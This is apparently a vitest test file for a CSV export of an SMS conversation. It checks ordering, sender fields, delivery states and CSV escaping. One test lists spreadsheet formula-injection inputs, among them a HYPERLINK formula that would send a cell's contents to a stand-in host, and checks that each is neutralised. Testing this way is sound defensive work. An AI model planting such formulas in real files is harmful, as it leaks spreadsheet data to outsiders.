import Papa from 'papaparse';
import { expect, test } from 'vitest';
import type { Conversation } from '#shared/domain/conversation.ts';
import type { Message } from '#shared/domain/message.ts';
import { csvOf, exportedRows } from './exportedRows.ts';

const conversation: Conversation = {
  conversationId: 'cnv_abcdefghijklmnop2345',
  number: '+15550102214',
  people: [{ contactId: 'con_ana', role: 'client', name: 'Ana Moreno', former: false }],
  sections: ['clients'],
  started: true,
  failures: 0,
  blocked: false,
  revision: 1,
};
const message = { conversationId: conversation.conversationId, revision: 1 };
const inbound = (text: string, at: string): Message => ({
  ...message,
  messageId: `in-${at}`,
  direction: 'inbound',
  text,
  at,
  writers: [{ contactId: 'con_ana', name: 'Ana Moreno' }],
});
const outbound: Message = {
  ...message,
  messageId: 'out-1',
  direction: 'outbound',
  text: 'See you at nine.',
  at: '2026-03-20T14:30:00.000Z',
  author: { kind: 'member', memberId: 'mem_kim', name: 'Kim Madsen' },
  state: 'failed',
  failure: 'not-a-mobile',
  stateAt: '2026-03-20T14:31:00.000Z',
};
const exported = (messages: readonly Message[]) =>
  csvOf(exportedRows(conversation, messages, '(555) 010-9000', 'America/Chicago'));
const read = (csv: string) =>
  Papa.parse<Record<string, string>>(csv.replace('\ufeff', ''), { header: true, skipEmptyLines: true }).data;

test('a conversation is exported oldest first, with who wrote each text and what became of it', () => {
  const newest = inbound('Thank you', '2026-03-20T15:00:00.000Z');
  expect(read(exported([newest, outbound]))).toMatchObject([
    {
      Time: 'Mar 20, 2026, 9:30:00 AM',
      Direction: 'sent',
      From: 'Kim Madsen, (555) 010-9000',
      To: '(555) 010-2214',
      Text: 'See you at nine.',
      State: 'failed: Not delivered: this number cannot receive texts.',
    },
    { Direction: 'received', From: 'Ana Moreno, (555) 010-2214', Text: 'Thank you', State: 'received' },
  ]);
});

test('a text that has no receipt after 72 hours is exported as such', () => {
  const sent = { ...outbound, state: 'sent' as const };
  const [old, recent] = read(
    exported([
      sent,
      { ...sent, messageId: 'out-2', at: '2026-03-20T14:40:00.000Z', stateAt: new Date().toISOString() },
    ]),
  );
  expect(old?.['State']).toBe('sent, no receipt');
  expect(recent?.['State']).toBe('sent');
});

test.each([
  '=1+1',
  '+1+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\n=1',
  '\uff1d1+1',
  "'=1+1",
  '=HYPERLINK("http://x","y")',
  '=HYPERLINK("http://x/?"&C2,"Invoice")\nThank you',
  '@SUM(A1)\n\n',
])('the text %j is exported as text, which no spreadsheet computes', (text) => {
  const [row] = read(exported([inbound(text, '2026-03-20T15:00:00.000Z')]));
  expect(row?.['Text']).toBe(`'${text}`);
});

test('quotes, commas, line breaks and emoji survive', () => {
  const text = 'He said "no", twice,\nand left 🏠';
  expect(read(exported([inbound(text, '2026-03-20T15:00:00.000Z')]))[0]?.['Text']).toBe(text);
});
